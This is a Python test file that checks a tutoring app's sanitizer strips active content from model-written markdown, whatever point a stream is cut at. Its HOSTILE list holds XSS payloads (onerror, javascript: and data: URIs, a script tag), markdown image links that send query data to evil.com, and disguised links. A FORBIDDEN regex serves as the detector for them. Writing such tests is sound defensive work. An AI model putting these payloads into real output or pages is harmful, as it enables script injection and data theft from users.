"""What a model writes can only be read: whatever it is and wherever the stream is cut."""

import random
import re
from itertools import pairwise

import pytest
from markdown_it import MarkdownIt

from tutor.answering.citing import CitationMarks
from tutor.answering.cleaning import cleaned

HOSTILE = (
    "A <img src=http://evil.com/x onerror=y> ![leak](http://evil.com/?q) [site](javascript:x) https://evil.com/a [1]",
    "[1](//evil.com/x) and [2 click](//evil.com) [99](//evil.com)",
    "![[x]](//evil.com/leak?q=1) [[x]](//evil.com) [x\\]y](//evil.com)",
    "> [r]: //evil.com\n\n[r] [r][] [a][r] [a][1]\n\n[1]: //evil.com\n[2]:\n//evil.com",
    "WWW.evil.com www.[99]evil.com www [99].evil.com HTTP&#58;//evil.com http:/[99]/evil.com http://[99]evil.com",
    "[a](<//evil.com>) <https://evil.com> <//evil.com> <[99]img src=x> <\u200bscript>alert(1)</script> <!-- x -->",
    "] [99](//evil.com) ][99](//evil.com) ]&#40;//evil.com) &#93;(//evil.com) [r] [99]: //evil.com",
    "&lt;img src=x&gt; &amp;lt;img&amp;gt; &#x3c;svg/onload=1> &#8203;<i\u202emg> h\u00adttp://evil.com",
    "mail me@evil.com or me&#64;evil.com, mailto:me@evil.com, data:text/html;base64,AAAA, vbscript:x",
    "看[这里](http://evil.com)和www.evil.com，或http://邪恶.evil.com。[点](//evil.com)[99]（见[1]）。[99]",
    "```mermaid\ngraph TD\nclick A \"//evil.com\"\n```\n``` mermaid\n~~~ mer&#109;aid\n~~~",
    "$\\href{//evil.com}{x}$ $\\rule{99em}{99em}$ $\\\\rule{1em}{1em}$",
    "$\\includegraphics{//evil.com}$ $\\htmlClass{a}{b}$",
    "\u202e\u2066\u200b\u200d\ufeff\x1b[31m\x00\x9b\ue000\ud800⚠ [1\u200b](//evil.com) ]\x1c(//evil.com)",
    "ht//中tp://evil.com a@b.c@evil.com http:/a@b.c/evil.com http://a@b.c//evil.com",
    "[" * 300 + "](//evil.com)" * 30 + "<" * 50 + "a" * 300 + "@" * 50,
)  # fmt: skip
FORBIDDEN = re.compile(
    r"\][(\[:]|<[A-Za-z/!?]|&#?\w+;|[\w+.-]@[\w-]+\.\w|//[!-~]|www\.|(?<!\w)(?:javascript|data|vbscript|mailto):[!-~]"
    r"|(?-i:mermaid)|\\(?:href|rule|includegraphics|htmlClass)(?![a-z])|\[99\]|⚠"
    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u200b-\u200f\u202a-\u202e\u2066-\u2069\ue000\ufeff]",
    re.IGNORECASE | re.ASCII,
)


def whole(*pieces: str) -> str:
    return "".join(cleaned(pieces, CitationMarks(known=2)))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_acts_is_left(text):
    clean = whole(text)
    assert FORBIDDEN.search(clean) is None
    assert "evil.com/" not in clean


@pytest.mark.parametrize("text", HOSTILE)
def test_a_page_makes_no_element_of_it_that_leads_or_loads(text):
    page = MarkdownIt("commonmark", {"html": True}).render(whole(text))
    allowed = {"p", "em", "strong", "code", "pre", "ol", "ul", "li", "blockquote", "br", "hr", "h1", "h2"}
    assert set(re.findall(r"</?([A-Za-z][\w-]*)", page)) <= allowed


@pytest.mark.parametrize("text", HOSTILE)
def test_a_stream_comes_out_the_same_wherever_it_is_cut(text):
    clean = whole(text)
    assert whole(*text) == clean
    for place in range(len(text)):
        assert whole(text[:place], text[place:]) == clean


@pytest.mark.parametrize("seed", range(100))
def test_no_mixture_of_hostile_parts_joins_into_something_new(seed):
    rng = random.Random(seed)
    parts = (
        "[", "]", "(", ")", ":", "/", "//", "http", "www", ".", "evil", "com", "@", "<", "img", "&", "lt", ";", "#58",
        " ", "\n", "[99]", "[1]", "中", "。", "!", "\\", "rule", "href", "`", "$", "\u200b", "\x1c", "&#40;", "&#93;",
        "data:", "mer", "maid", "javascript", "x",
    )  # fmt: skip
    text = "".join(rng.choices(parts, k=200))
    clean = whole(text)
    assert FORBIDDEN.search(clean) is None
    cuts = sorted(rng.choices(range(len(text)), k=20))
    assert whole(*(text[start:end] for start, end in pairwise([0, *cuts, len(text)]))) == clean


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("Dropout mutes units [2], see [77]. So [1].", "Dropout mutes units [1], see. So [2]."),
        ("Two sources [1][2].", "Two sources [1] [2]."),
        ("它会关掉神经元 [77]。然后放大[1]。", "它会关掉神经元。然后放大[1]。"),
        ("If $a<b$ then R&D, 1&#37;", "If $a< b$ then R&D, 1%"),
        ("**bold** *it* `code`\n\n- one\n- two\n\n$$\\frac{1}{1-p} \\left[0\\right)$$", None),
        ("Precision@5 is 0.9; a // b; ratio 3:1; C:", None),
    ],
)
def test_what_is_only_text_stays(text, clean):
    assert whole(text) == (text if clean is None else clean)


def test_a_piece_is_given_on_as_soon_as_its_words_are_complete():
    stream = cleaned(iter(["Dropout mutes un", "its [", "1] now"]), CitationMarks(known=1))
    assert list(stream) == ["Dropout mutes", " units", " [1]", " now"]
